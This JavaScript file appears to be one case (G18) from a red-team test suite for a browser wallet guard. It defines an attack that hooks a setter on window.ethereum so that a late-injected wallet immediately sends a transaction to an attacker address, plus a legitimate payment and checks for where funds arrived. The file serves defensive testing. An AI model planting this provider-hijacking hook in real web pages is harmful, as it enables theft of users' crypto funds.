// G18: a setter of the attacker waits for a wallet that comes late and asks it on the spot.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G18',
  title: 'late wallet assigned to a page setter',
  source: 'red team, late injection',
  level: 'out',
  why: 'where there is no wallet yet, a fixed property would break every page that declares its own ethereum; late wallets run among page scripts',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const call = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] };
    let held;
    try {
      Object.defineProperty(window, 'ethereum', {
        configurable: true,
        get: () => held,
        set(provider) {
          held = provider;
          provider.request(call).catch(() => {});
        },
      });
    } catch {
      // Pinned: the wallet comes to the guard first.
    }
    for (let i = 0; i < 200 && !window.ethereum; i += 1) await new Promise((resolve) => setTimeout(resolve, 10));
    return window.ethereum.request(call).catch((error) => error.code);
  },

  async action(a) {
    for (let i = 0; i < 200 && !window.ethereum; i += 1) await new Promise((resolve) => setTimeout(resolve, 10));
    const tx = { from: a.USER, to: a.GOOD, value: '0x5' };
    return window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  page: { wallet: 'none', lateWallets: ['fields'] },
};
